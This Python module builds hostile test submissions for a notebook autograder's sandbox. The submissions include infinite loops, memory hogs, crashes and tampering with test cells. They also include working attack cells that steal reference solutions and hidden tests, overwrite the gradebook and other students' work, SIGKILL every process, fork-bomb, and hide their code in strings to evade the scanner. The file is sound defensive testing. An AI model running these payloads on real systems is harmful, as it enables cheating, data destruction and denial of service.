"""Hostile submissions for em_prankster: what the autograder must survive.

``cases(release_nb, source_nb)`` builds one ``Case`` per hostile student. Each case is a
folder of files to place at ``submitted/<case.name>/em_prankster/`` and starts from one of
three honest submissions (``case.base``):

- ``blank``: the release notebook as it is;
- ``correct``: every solution cell filled with the reference solution from source/;
- ``wrong``: the demo's ``mistakes`` student (demo/make_submissions.py: three typical
  mistakes, otherwise correct).

The three bases are cases themselves (kind ``base``), so a grading test can compare each
hostile case's score with that of its base. The other kinds:

- ``time``: code that never finishes, or finishes very slowly;
- ``memory``: code or stored outputs that eat memory;
- ``crash``: code that ends the kernel, or the grading process that started it;
- ``tampering``: edits of the test cells, their metadata or the grading helpers, aimed at
  a score the code does not earn (these start from ``wrong``, so any gain shows);
- ``bad_file``: the notebook renamed, in an old format, truncated, missing or doubled;
- ``isolation``: code that uses only ordinary modules to read the reference, the hidden
  tests or other students' work, write outside its folder, signal other processes, fork
  without end, reach the network or leave processes behind (the sandbox's cases);
- ``honest``: correct submissions graded beside the isolation cases.

None of these should be executed outside a sandboxed grading run: some loop forever, take
8 GiB, or kill the process that started the kernel.

Imports ``demo.make_submissions`` and ``grading``, the course's packages (installed in editable
mode, pyproject.toml).
"""
import ast
import base64
import copy
import io
import os
import pathlib
import textwrap
from dataclasses import dataclass

import nbformat
import numpy as np

from demo import make_submissions
from grading import notebook_cells
from grading.assignment import FUNCTIONS, NOTEBOOK

ROOT = pathlib.Path(__file__).resolve().parents[1]
REAL_GRADING = ROOT / "source" / "em_prankster" / "em_grading.py"
DATA_SHAPE = (100, 200, 1000)  # data_em.npy: uint8 photos, H x W x K


@dataclass
class Case:
    name: str            # student id, e.g. "time_loop_forever"
    kind: str            # "base", "time", "memory", "crash", "tampering" or "bad_file"
    base: str            # "blank", "correct" or "wrong": the honest submission it starts from
    what: str            # one line: what the student did
    files: dict          # relative path inside submitted/<name>/em_prankster/ -> bytes


# ---------------------------------------------------------------------------------------
# Building blocks


def dumps(nb):
    """A notebook file's bytes."""
    return nbformat.writes(nb).encode()


def new_cell(source):
    """A plain code cell, without nbgrader metadata (and without a cell id: nbformat 4.4)."""
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
    cell.pop("id", None)
    return cell


def insert_after(nb, grade_id, source):
    """A copy of ``nb`` with a new code cell right after the cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells)
                 if notebook_cells.nbgrader_meta(c).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, new_cell(source))
    return nb


def prepend_to_function(code, function, line):
    """``code`` with ``line`` as the first statement of ``function`` (after its docstring)."""
    tree = ast.parse(code)
    node = next(n for n in ast.walk(tree)
                if isinstance(n, ast.FunctionDef) and n.name == function)
    body = node.body
    has_docstring = (isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant)
                     and isinstance(body[0].value.value, str))
    first = body[1] if has_docstring else body[0]
    lines = code.splitlines()
    lines.insert(first.lineno - 1, " " * first.col_offset + line)
    edited = "\n".join(lines)
    # The edit happened: the function's first statement is now the inserted line.
    node = next(n for n in ast.walk(ast.parse(edited))
                if isinstance(n, ast.FunctionDef) and n.name == function)
    inserted = ast.parse(line).body[0]
    assert ast.dump(node.body[1 if has_docstring else 0]) == ast.dump(inserted), function
    return edited


def edit_solutions(release_nb, answers, edits):
    """A submission from ``answers`` with solution cells changed: grade_id -> code -> code."""
    answers = dict(answers)
    for gid, edit in edits.items():
        before = answers[gid]
        answers[gid] = edit(before)
        assert answers[gid] != before, gid
    return notebook_cells.make_submission(release_nb, answers)


def at_start(function, line):
    """An edit: ``line`` first in ``function``, which has the cell's grade_id as its name."""
    return lambda code: prepend_to_function(code, function, line)


def slow(function):
    """An edit: ``import time`` atop the cell and ``time.sleep(4)`` first in ``function``
    (less than the suite's cell limit, more than its submission limit over all calls)."""
    return lambda code: "import time\n" + prepend_to_function(code, function, "time.sleep(4)")


def at_end(line):
    """An edit: ``line`` at top level, at the end of the cell."""
    return lambda code: code.rstrip("\n") + "\n\n" + line


def is_test(cell):
    """A test cell: nbgrader ``grade: True`` (the 0-point bonus cells included)."""
    return bool(notebook_cells.nbgrader_meta(cell).get("grade"))


def edit_tests(nb, edit):
    """A copy of ``nb`` with ``edit(cell)`` applied to every test cell in place."""
    nb = copy.deepcopy(nb)
    cells = [c for c in nb.cells if is_test(c)]
    assert cells
    for cell in cells:
        edit(cell)
    return nb


def set_meta(**values):
    """An edit of a test cell's nbgrader metadata."""
    return lambda cell: cell.metadata.nbgrader.update(values)


def imported_grading_names(release_nb):
    """The names the ``imports`` cell takes from em_grading (``from em_grading import ...``)."""
    source = notebook_cells.cells_by_id(release_nb)["imports"].source
    code = "\n".join(line for line in source.splitlines() if not line.lstrip().startswith("%"))
    names = [alias.asname or alias.name for node in ast.walk(ast.parse(code))
             if isinstance(node, ast.ImportFrom) and node.module == "em_grading"
             for alias in node.names]
    assert names, "the imports cell no longer imports names from em_grading"
    return names


def noop_grading_module():
    """Source of an em_grading.py whose public functions, the real ones' names, do nothing."""
    tree = ast.parse(REAL_GRADING.read_text())
    names = [n.name for n in tree.body
             if isinstance(n, ast.FunctionDef) and not n.name.startswith("_")]
    assert "check_close" in names
    return ('"""em_grading, as a student would like it."""\n\n\n'
            + "\n\n".join(f"def {name}(*args, **kwargs):\n    return None\n" for name in names))


def zero_data():
    """data_em.npy of the right shape and dtype, all zeros."""
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(DATA_SHAPE, dtype=np.uint8))
    return buffer.getvalue()


def wrong_answers(release_nb):
    """The demo ``mistakes`` student's solution cells (demo/make_submissions.py)."""
    mistakes = make_submissions.submissions()["mistakes"]
    cells = notebook_cells.cells_by_id(mistakes)
    return {gid: cells[gid].source for gid in notebook_cells.solution_ids(release_nb)}


# ---------------------------------------------------------------------------------------
# The suite


def cases(release_nb, source_nb):
    """Every hostile case (and the three honest bases), in a fixed order."""
    reference = notebook_cells.reference_code(source_nb)
    wrong_code = wrong_answers(release_nb)
    bases = {
        "blank": copy.deepcopy(release_nb),
        "correct": notebook_cells.make_submission(release_nb, reference),
        "wrong": notebook_cells.make_submission(release_nb, wrong_code),
    }
    correct, wrong = bases["correct"], bases["wrong"]
    grading_names = imported_grading_names(release_nb)
    noop_grading = noop_grading_module()
    out = []

    def add(name, kind, base, what, nb=None, files=None):
        files = dict(files or {})
        if nb is not None:
            files[NOTEBOOK] = dumps(nb)
        out.append(Case(name, kind, base, what, files))

    def solved(**edits):
        """The correct submission with solution cells edited."""
        return edit_solutions(release_nb, reference, edits)

    # -- the honest bases
    add("base_blank", "base", "blank", "hands in the release notebook unchanged", bases["blank"])
    add("base_correct", "base", "correct", "the reference solution", correct)
    add("base_wrong", "base", "wrong", "the demo's three typical mistakes", wrong)

    # -- time
    add("time_loop_forever", "time", "correct", "run_e_step starts with `while True: pass`",
        solved(run_e_step=at_start("run_e_step", "while True: pass")))
    add("time_loop_top_level", "time", "correct",
        "the calculate_lower_bound cell ends with a top-level `while True: pass`",
        solved(calculate_lower_bound=at_end("while True: pass")))
    add("time_ignores_interrupt", "time", "correct",
        "a cell after run_m_step_loops loops forever, swallowing KeyboardInterrupt",
        insert_after(correct, "run_m_step_loops", """
            import time
            while True:
                try: time.sleep(0.5)
                except KeyboardInterrupt: pass
            """))
    add("time_slow_everywhere", "time", "correct",
        "each of the five functions first sleeps 4 s",
        solved(**{f: slow(f) for f in FUNCTIONS}))

    # -- memory
    add("memory_8_gib", "memory", "correct", "run_m_step first allocates and fills 8 GiB",
        solved(run_m_step=at_start("run_m_step", "_hog = np.ones((1024, 1024, 1024))")))
    add("memory_output_flood", "memory", "correct", "a cell after imports prints 60 MB",
        insert_after(correct, "imports", 'for i in range(600_000): print("x" * 99)'))
    stored = copy.deepcopy(correct)
    notebook_cells.cells_by_id(stored)["example_image"].outputs = [nbformat.v4.new_output(
        "display_data",
        data={"image/png": base64.b64encode(os.urandom(22_500_000)).decode(),
              "text/plain": "<Figure size 800x400 with 1 Axes>"})]
    add("memory_stored_outputs", "memory", "correct",
        "the example_image cell carries a 30 MB stored image/png output", stored)

    # -- crash
    add("crash_os_exit", "crash", "correct", "the run_m_step cell ends with os._exit(0)",
        solved(run_m_step=at_end("import os; os._exit(0)")))
    add("crash_segfault", "crash", "correct", "run_EM first reads address 0 (segfault)",
        solved(run_EM=at_start("run_EM", "import ctypes; ctypes.string_at(0)")))
    add("crash_system_exit", "crash", "correct",
        "the calculate_lower_bound cell ends with raise SystemExit(1)",
        solved(calculate_lower_bound=at_end("raise SystemExit(1)")))
    add("crash_exit_builtin", "crash", "correct", "the run_e_step cell ends with exit()",
        solved(run_e_step=at_end("exit()")))
    add("crash_kill_grader", "crash", "correct",
        "the answer_location cell SIGKILLs the kernel's parent (the grader)",
        solved(answer_location=at_end("import os, signal; os.kill(os.getppid(), signal.SIGKILL)")))

    # -- tampering (from the wrong submission, so that any gain shows)
    def tags(*names):
        def edit(cell):
            cell.metadata["tags"] = list(names)
        return edit

    def edited(cell):
        cell.metadata.nbgrader["locked"] = False
        cell.source = 'print("ok")'

    def commented(cell):
        cell.source = "\n".join("# " + line for line in cell.source.splitlines())

    def renamed(cell):
        cell.metadata.nbgrader["grade_id"] += "_x"

    for name, edit, what in [
        ("tamper_skip_tags", tags("skip-execution"), "test cells tagged skip-execution"),
        ("tamper_raises_tags", tags("raises-exception"), "test cells tagged raises-exception"),
        ("tamper_grade_flag", set_meta(grade=False), "test cells' nbgrader grade set to False"),
        ("tamper_points", set_meta(points=1000), "test cells' points set to 1000"),
        ("tamper_grade_id", renamed, "test cells' grade_ids renamed with the suffix _x"),
        ("tamper_edited_tests", edited, "test cells unlocked and replaced by print('ok')"),
        ("tamper_commented_tests", commented, "test cells commented out line by line"),
    ]:
        add(name, "tampering", "wrong", what, edit_tests(wrong, edit))

    deleted = copy.deepcopy(wrong)
    deleted.cells = [c for c in deleted.cells if not is_test(c)]
    add("tamper_deleted_tests", "tampering", "wrong", "test cells deleted", deleted)
    reordered = copy.deepcopy(wrong)
    reordered.cells = ([c for c in reordered.cells if is_test(c)][::-1]
                       + [c for c in reordered.cells if not is_test(c)])
    add("tamper_reordered", "tampering", "wrong",
        "test cells moved, in reverse order, to the start of the notebook", reordered)

    add("tamper_patch_numpy", "tampering", "wrong",
        "a cell after imports makes numpy's comparisons and abs/all lie",
        insert_after(wrong, "imports", """
            import builtins
            np.allclose = lambda *args, **kwargs: True
            np.isclose = lambda *args, **kwargs: True
            np.testing.assert_allclose = lambda *args, **kwargs: None
            np.array_equal = lambda *args, **kwargs: True
            builtins.abs = lambda x: 0
            builtins.all = lambda iterable: True
            """))
    rebind = "\n".join(f"{n} = lambda *a, **k: None" for n in grading_names)
    add("tamper_patch_grader", "tampering", "wrong",
        "a cell after imports makes every em_grading function a no-op",
        insert_after(wrong, "imports", """
            import em_grading
            for _name in dir(em_grading):
                if not _name.startswith("_") and callable(getattr(em_grading, _name)):
                    setattr(em_grading, _name, lambda *a, **k: None)
            """ + rebind))
    add("tamper_input_transformer", "tampering", "wrong",
        "a cell after imports turns every later cell into `pass`",
        insert_after(wrong, "imports",
                     'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'))
    add("tamper_files", "tampering", "wrong",
        "hands in a no-op em_grading.py and an all-zero data_em.npy with the notebook",
        wrong, {"em_grading.py": noop_grading.encode(), "data_em.npy": zero_data()})
    rebind_from_module = "\n".join(f"{n} = em_grading.{n}" for n in grading_names)
    add("tamper_runtime_write", "tampering", "wrong",
        "a cell after imports overwrites em_grading.py with no-ops and reloads it",
        insert_after(wrong, "imports",
                     f"with open('em_grading.py', 'w') as _f:\n    _f.write({noop_grading!r})\n"
                     "import importlib, em_grading\nimportlib.reload(em_grading)\n"
                     + rebind_from_module))

    # -- bad files (from the correct submission)
    correct_bytes = dumps(correct)
    add("bad_renamed", "bad_file", "correct", "the notebook saved as my_solution.ipynb",
        files={"my_solution.ipynb": correct_bytes})
    v3 = nbformat.writes(nbformat.convert(copy.deepcopy(correct), 3), version=3)
    back = notebook_cells.cells_by_id(nbformat.reads(v3, as_version=4))
    assert back.keys() == notebook_cells.cells_by_id(correct).keys(), "nbgrader metadata lost in v3"
    add("bad_nbformat3", "bad_file", "correct", "the notebook saved as nbformat 3",
        files={NOTEBOOK: v3.encode()})
    add("bad_invalid_json", "bad_file", "correct", "only the first 5000 bytes of the notebook",
        files={NOTEBOOK: correct_bytes[:5000]})
    add("bad_missing", "bad_file", "correct", "no notebook, only a README.txt",
        files={"README.txt": b"I forgot to upload it\n"})
    add("bad_two_notebooks", "bad_file", "correct",
        "two notebooks, draft.ipynb (blank) and final.ipynb (correct), neither the expected name",
        files={"draft.ipynb": dumps(bases["blank"]), "final.ipynb": correct_bytes})

    # -- isolation (each beside an honest student, whose grade must not change)
    for name, base, what, content in isolation_cases(release_nb, reference):
        if isinstance(content, nbformat.NotebookNode):
            add(name, "isolation", base, what, content)
        else:
            add(name, "isolation", base, what, files=content)
    for kind in ("fork", "read", "signal", "write"):
        add(f"{kind}_zz_honest", "honest", "correct",
            f"the reference solution, graded in the same shard as the {kind}_ cases", correct)

    assert len({c.name for c in out}) == len(out), "case names must be unique"
    return out


# ---------------------------------------------------------------------------------------
# Isolation: code that uses only ordinary modules to reach past its own submission.
#
# Each attack cell prints one line, ``ATTACK {json}``, saying what it found and did, so a
# test can check that it found nothing (tests/test_hostile.py reads it from the autograded
# notebook). ``TOOLKIT`` is what every attack cell starts with: ways to find the course
# from inside a kernel, as a student who has read this repository would look for it.

# tests/test_hostile.py listens here on the host's loopback: below Linux's ephemeral ports
# (32768-60999), which the free ports and outgoing connections of tests running meanwhile take
LISTEN_PORT = 29413
LISTEN_ABSTRACT = "em-hostile-listener"  # and on this abstract Unix socket
MARKER = "em-hostile-marker"  # files the write attacks leave wherever they can
LINGER_SECONDS = 3617  # the lingering processes run `sleep 3617`

TOOLKIT = '''
import json, os, pathlib

def _walk_up():
    here = pathlib.Path.cwd()
    return [here, *here.parents]

def _through_proc():
    found = []
    for proc in pathlib.Path("/proc").glob("[0-9]*"):
        for what in ("cwd", "root"):
            try:
                found.append(pathlib.Path(os.readlink(proc / what)))
            except OSError:
                pass
        try:
            env = (proc / "environ").read_bytes().split(b"\\0")
            found += [pathlib.Path(e[4:].decode()) for e in env if e.startswith(b"PWD=")]
        except OSError:
            pass
    return [f for start in found for f in [start, *start.parents]]

def _search(limit=20000):
    found, seen = [], 0
    for where, dirs, files in os.walk("/"):
        seen += 1
        dirs[:] = [d for d in dirs if os.path.join(where, d) not in ("/proc", "/sys", "/dev", "/usr")
                   and where.count("/") < 8]
        if "nbgrader_config.py" in files or "gradebook.db" in files:
            found.append(pathlib.Path(where))
        if seen > limit:
            break
    return found

def _course_roots(ways=("up", "proc", "search")):
    starts = []
    if "up" in ways: starts += _walk_up()
    if "proc" in ways: starts += _through_proc()
    if "search" in ways: starts += _search()
    roots = []
    for folder in starts:
        try:
            if ((folder / "nbgrader_config.py").exists() or (folder / "gradebook.db").exists()) \\
                    and folder not in roots:
                roots.append(folder)
        except OSError:
            pass
    return roots

def _notebooks(roots, patterns):
    return sorted({str(p) for root in roots for pattern in patterns for p in root.glob(pattern)})

def _use_solutions(path):
    """Run the solution cells of the notebook at ``path`` here, as if written by hand."""
    import code
    nb = json.loads(pathlib.Path(path).read_text())
    used = 0
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        if cell["cell_type"] != "code" or not meta.get("solution") or "NotImplementedError" in source:
            continue
        source = "\\n".join(l for l in source.splitlines() if "### " not in l and not l.startswith("%"))
        code.InteractiveInterpreter(globals()).runsource(source, "<found>", "exec")
        used += 1
    return used

def _report(**what):
    print("ATTACK " + json.dumps(what, default=str))
'''


def attack(body):
    """An attack cell: the toolkit, then ``body``, run from a string the scan cannot read.

    The scan (grading/scan.py) reads code, not strings: run through ``code``'s interpreter,
    the attack is not held for review, and only the sandbox stands in its way. What the
    attack defines (stolen solutions) is in the dict ``_stolen``.
    """
    source = TOOLKIT + textwrap.dedent(body)
    return ("import code as _code\n_stolen = {'np': np}\n"
            f"_code.InteractiveInterpreter(_stolen).runsource({source!r}, '<attack>', 'exec')")


def defined_name(code):
    """The name a solution cell defines: its first function, or its first assigned name."""
    for node in ast.parse(code).body:
        if isinstance(node, ast.FunctionDef):
            return node.name
        if isinstance(node, ast.Assign):
            return node.targets[0].id
    raise ValueError(code)


def stealing(release_nb, reference, body):
    """The release notebook whose solution cells take what ``body`` stole (``_stolen``).

    An attack cell after the imports runs ``body``; each solution cell then binds its name
    to what the attack found, or to None (so it scores what a blank notebook does).
    """
    answers = {gid: f"{defined_name(code)} = _stolen.get({defined_name(code)!r})"
               for gid, code in reference.items()}
    return insert_after(notebook_cells.make_submission(release_nb, answers), "imports", attack(body))


READ_REFERENCE = '''
roots = _course_roots(WAYS)
found = _notebooks(roots, ["source/*/*.ipynb"])
used = sum(_use_solutions(p) for p in found[:1])
_report(roots=[str(r) for r in roots], found=found, used=used)
'''

READ_OTHERS = '''
roots = _course_roots()
mine = pathlib.Path.cwd().parent.name
found = [p for p in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
                                        ".grading/staged/*/*/*.ipynb"]) if mine not in p]
used = 0
for path in found:
    if "NotImplementedError()" not in pathlib.Path(path).read_text():
        used = _use_solutions(path)
        break
_report(roots=[str(r) for r in roots], found=found[:20], used=used)
'''

READ_GRADEBOOK = '''
import sqlite3
roots = _course_roots()
hidden = []
for root in roots:
    try:
        db = sqlite3.connect(f"file:{root / 'gradebook.db'}?mode=ro", uri=True)
        hidden += [row[0] for row in db.execute("SELECT source FROM source_cell")
                   if "BEGIN HIDDEN TESTS" in row[0]]
    except sqlite3.Error:
        pass
_report(roots=[str(r) for r in roots], found=len(hidden))
'''

READ_LINK = '''
used = 0
for name in ("reference.ipynb", "shard_reference.ipynb"):
    try:
        used += _use_solutions(name)
    except OSError as error:
        _report(name=name, error=str(error))
_report(folder=sorted(os.listdir(".")), used=used)
'''

WRITE_COURSE = '''
roots = _course_roots(WAYS)
done = []
for root in roots:
    for name in ("nbgrader_config.py", "Makefile", "README.md"):
        try:
            with (root / name).open("a") as f:
                f.write("\\n# MARKER\\nc.Execute.timeout = 1\\n")
            done.append(str(root / name))
        except OSError:
            pass
    for path in root.glob("source/*/em_grading.py"):
        try:
            path.write_text("def check_close(*a, **k): pass\\n")
            done.append(str(path))
        except OSError:
            pass
    try:
        (root / "source" / "MARKER.py").write_text("x = 1\\n")
        done.append(str(root / "source" / "MARKER.py"))
    except OSError:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''.replace("MARKER", MARKER)

WRITE_GRADEBOOK = '''
import sqlite3
roots = _course_roots()
done = []
for root in roots:
    try:
        db = sqlite3.connect(str(root / "gradebook.db"))
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.execute("UPDATE grade_cell SET max_score = 1000")
        db.commit()
        done.append(str(root / "gradebook.db"))
    except sqlite3.Error:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''

WRITE_OTHERS = '''
roots = _course_roots()
mine = pathlib.Path.cwd().parent.name
blank = pathlib.Path("em_prankster.ipynb").read_text()
done = []
for path in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
                               ".grading/staged/*/*/*.ipynb", ".grading/shards/*/submitted/*/*/*.ipynb"]):
    if mine in path:
        continue
    try:
        pathlib.Path(path).write_text(blank)
        done.append(path)
    except OSError:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''

WRITE_HOME_TMP = '''
done = []
for folder in (os.path.expanduser("~"), "/root", "/tmp", "/var/tmp", "/dev/shm",
               os.path.expanduser("~/.ipython/profile_default/startup"), "/etc", "/usr/local/bin"):
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        (pathlib.Path(folder) / "MARKER").write_text("was here\\n")
        done.append(folder)
    except OSError:
        pass
_report(done=done, home=os.path.expanduser("~"))
'''.replace("MARKER", MARKER)

SIGNAL_BY_NAME = '''
import signal
found, done = [], []
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        cmd = (proc / "cmdline").read_bytes().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    if int(proc.name) == os.getpid() or not any(
            w in cmd for w in ("nbgrader", "grading.parallel", "pytest", "ipykernel", "bwrap")):
        continue
    found.append(cmd[:80])
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(int(proc.name), sig)
            done.append(proc.name)
        except OSError:
            pass
_report(found=found, done=done)
'''

SIGNAL_EVERYONE = '''
import signal
done = []
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    if int(proc.name) != os.getpid():
        try:
            os.kill(int(proc.name), signal.SIGKILL)
            done.append(proc.name)
        except OSError:
            pass
_report(done=done)
os.kill(-1, signal.SIGKILL)  # everything it may signal, itself included
'''

FORK_PROCESSES = '''
import time
children, error = 0, None
try:
    while True:
        if os.fork() == 0:  # each child waits until all are there, then keeps a core busy
            time.sleep(3)
            while True:
                pass
        children += 1
except OSError as e:
    error = str(e)
_report(children=children, error=error)
'''

FORK_THREADS = '''
import threading, time
started, error = 0, None
try:
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        started += 1
except RuntimeError as e:
    error = str(e)
_report(threads=started, error=error)
'''

NETWORK = f'''
import socket
result = {{"interfaces": [name for _, name in socket.if_nameindex()]}}
try:
    result["routes"] = pathlib.Path("/proc/net/route").read_text().splitlines()[1:]
except OSError as e:
    result["routes"] = str(e)
def _try(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(address)
        s.sendall(b"hello from a kernel\\n")
        return "connected"
    except OSError as e:
        return "failed: " + str(e)
    finally:
        s.close()
result["grader_loopback"] = _try(socket.AF_INET, ("127.0.0.1", {LISTEN_PORT}))
result["grader_abstract"] = _try(socket.AF_UNIX, "\\0{LISTEN_ABSTRACT}")
try:
    result["dns"] = str(socket.getaddrinfo("pypi.org", 443)[:1])
except OSError as e:
    result["dns"] = "failed: " + str(e)
_report(**result)
'''

LINGER = f'''
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/usr/bin/sleep", ["sleep", "{LINGER_SECONDS}"])
    os._exit(0)
os.waitpid(pid, 0)
import threading, time
def _later():
    time.sleep(2)
    for root in _course_roots(("up", "proc")):
        try:
            (root / "{MARKER}-later").write_text("x")
        except OSError:
            pass
threading.Thread(target=_later).start()
_report(forked=True)
'''


def isolation_cases(release_nb, reference, course_hint="../../.."):
    """The isolation cases: (name, base, what, notebook or files).

    ``course_hint``: the course folder relative to ``submitted/<student>/em_prankster/``, as
    a student who has read the README would guess it.
    """
    blank = copy.deepcopy(release_nb)
    correct = notebook_cells.make_submission(release_nb, reference)
    out = []
    for ways, name in [(("up",), "read_reference_walking_up"), (("proc",), "read_reference_via_proc"),
                       (("search",), "read_reference_by_search")]:
        out.append((name, "blank", f"looks for source/ ({ways[0]}), runs the reference's solutions",
                    stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", repr(ways)))))
    out.append(("read_other_students", "blank", "runs another student's solved notebook",
                stealing(release_nb, reference, READ_OTHERS)))
    out.append(("read_hidden_tests", "blank", "reads the hidden tests from gradebook.db",
                insert_after(blank, "imports", attack(READ_GRADEBOOK))))
    out.append(("read_through_links", "blank",
                "hands in links to source/'s notebook, relative to submitted/ and to a shard",
                {NOTEBOOK: dumps(stealing(release_nb, reference, READ_LINK)),
                 "reference.ipynb": Symlink(f"{course_hint}/source/em_prankster/{NOTEBOOK}"),
                 "shard_reference.ipynb": Symlink(f"../../../{course_hint}/source/em_prankster/{NOTEBOOK}")}))
    for name, code, what in [
        ("write_course_files", WRITE_COURSE.replace("WAYS", "('up', 'proc', 'search')"), "appends to nbgrader_config.py, Makefile, README; "
         "replaces em_grading.py in source/"),
        ("write_gradebook", WRITE_GRADEBOOK, "zeroes every grade in gradebook.db"),
        ("write_other_students", WRITE_OTHERS, "overwrites other students' notebooks with blanks"),
        ("write_home_and_tmp", WRITE_HOME_TMP, "leaves files in the home folder, /tmp, /etc ..."),
        ("net_connections", NETWORK, "lists interfaces, connects to the grader's loopback, DNS"),
        ("linger_after_kernel", LINGER, "leaves a `sleep` and a thread behind to act later"),
        ("signal_grader_by_name", SIGNAL_BY_NAME, "stops and kills nbgrader, pytest, other kernels"),
    ]:
        out.append((name, "correct", what, insert_after(correct, "imports", attack(code))))
    out.append(("signal_everyone", "correct",
                "the answer_location cell SIGKILLs every process it sees, then all it may (kill -1)",
                edit_solutions(release_nb, reference, {
                    "answer_location": at_end(attack(SIGNAL_EVERYONE))})))
    out.append(("fork_processes", "correct", "a cell after run_m_step forks busy children until refused",
                insert_after(correct, "run_m_step_loops", attack(FORK_PROCESSES))))
    out.append(("fork_threads", "correct", "a cell after imports starts threads until refused",
                insert_after(correct, "imports", attack(FORK_THREADS))))
    return out


def unsandboxed_cases(release_nb, reference):
    """Attacks that succeed without the sandbox and harm only the course they are graded in.

    They look for the course only by walking up from the working folder, so run without
    the sandbox (tests/test_hostile.py does, in a throw-away course, to show that the
    isolation tests can fail) they never reach another course on the machine.
    """
    correct = notebook_cells.make_submission(release_nb, reference)
    return [
        ("read_reference_walking_up", "blank", "walks up to source/, runs the reference",
         stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", "('up',)"))),
        ("write_course_files", "correct", "walks up, appends to nbgrader_config.py",
         insert_after(correct, "imports", attack(WRITE_COURSE.replace("WAYS", "('up',)")))),
    ]


@dataclass
class Symlink:
    """A file of a case that is a symbolic link to ``target``."""
    target: str
